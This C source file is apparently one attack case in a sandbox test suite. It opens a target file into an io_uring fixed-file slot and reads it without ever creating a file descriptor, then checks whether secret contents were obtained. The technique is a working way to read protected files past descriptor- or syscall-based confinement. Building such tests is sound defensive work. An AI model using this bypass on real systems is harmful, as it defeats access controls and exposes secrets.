/* SPDX-License-Identifier: Apache-2.0 */
#include "attack.h"

#include "uring.h"

/* The file goes into the ring's own table and never gets a descriptor; it is read there. */
static void run(void)
{
	struct uring ring;
	int slots[4] = { -1, -1, -1, -1 };
	static char bytes[256];
	struct io_uring_sqe request = {
		.opcode = IORING_OP_OPENAT,
		.fd = AT_FDCWD,
		.addr = (uint64_t)(uintptr_t)target,
		.open_flags = O_RDONLY,
		.file_index = 1,
	};
	int got;

	if (!uring_open(&ring, 0)) {
		step_failed("io_uring_setup");
		return;
	}
	if (syscall(SYS_io_uring_register, ring.fd, IORING_REGISTER_FILES, slots, 4) < 0) {
		step_failed("io_uring_register");
		return;
	}
	got = uring_do(&ring, &request);
	if (got < 0) {
		errno = -got;
		step_failed("IORING_OP_OPENAT into a slot");
		return;
	}
	request = (struct io_uring_sqe){
		.opcode = IORING_OP_READ,
		.fd = 0,
		.flags = IOSQE_FIXED_FILE,
		.addr = (uint64_t)(uintptr_t)bytes,
		.len = sizeof(bytes),
	};
	got = uring_do(&ring, &request);
	if (got < 0) {
		errno = -got;
		step_failed("IORING_OP_READ");
		return;
	}
	holds_secret(bytes, (size_t)got, "read from a ring slot");
}

ATTACK(.name = "io-uring-direct", .goals = READ)
